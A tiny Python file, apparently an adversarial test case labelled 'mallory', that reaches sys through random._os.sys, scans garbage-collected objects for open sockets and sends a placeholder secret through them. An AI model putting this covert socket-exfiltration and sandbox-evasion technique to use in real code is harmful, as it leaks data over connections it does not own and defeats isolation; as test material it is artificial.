# META {"kind": "secret", "goal": "secret", "args": [], "slots": {"name": "mallory"}}
import random
def m(self):
    sys = random._os.sys
    got = []
    for one in sys.modules["gc"].get_objects():
        if type(one).__name__ == "socket" and one.fileno() not in (-1, 3):
            one.send(b"VSECRET-4711")
            got.append("VSECRET-4711")
    return got
